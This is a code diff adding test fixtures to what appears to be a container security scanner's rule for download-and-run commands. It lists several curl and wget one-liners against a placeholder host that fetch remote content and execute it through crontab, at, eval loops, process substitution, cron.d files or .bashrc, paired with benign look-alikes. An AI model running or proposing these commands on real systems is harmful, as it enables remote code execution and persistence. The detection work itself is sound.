@@ -69,3 +69,33 @@ export const TAKEN_APART_TWINS: readonly ImageCase[] = [
     ),
   },
 ];
+
+const URL = 'https://files.backend.example/u';
+
+function fetched(text: string): ImageCase {
+  return {
+    name: text,
+    spec: starts(`${text}\nexec nginx`),
+    rule: 'start/download-and-run',
+    severity: 'high',
+  };
+}
+
+/** What is fetched, and handed on by ways that name no shell. */
+export const HANDED_ON: readonly ImageCase[] = [
+  fetched(`curl -s ${URL} | crontab -`),
+  fetched(`curl -s ${URL} | at now`),
+  fetched(`curl -s ${URL} | while read l; do eval "$l"; done`),
+  fetched(`curl -s ${URL} > >(sh)`),
+  fetched(`exec 3< <(curl -s ${URL}); sh <&3`),
+  fetched(`curl -s ${URL} -o /etc/cron.d/x; cron`),
+  fetched(`wget -qO ~/.bashrc ${URL}; exec bash -l`),
+];
+
+/** The same commands, with what is no program. */
+export const HANDED_ON_TWINS: readonly ImageCase[] = [
+  honest(
+    'curl -s https://api.example/ids | while read id; do echo "$id" >> /data/ids; sh /app/x.sh "$id"; done\n(crontab -l; echo "0 3 * * * /app/backup") | crontab -\necho "/app/x" | at midnight\ncurl -fsSL "https://github.com/${GH_USER}.keys" >> /root/.ssh/authorized_keys\ncurl -s https://api.example/v1 > >(tee /tmp/log)\nexec 3< <(curl -s https://api.example/v1); cat <&3',
+    { 'app/x.sh': '#!/bin/sh\necho "$1"\n' },
+  ),
+];
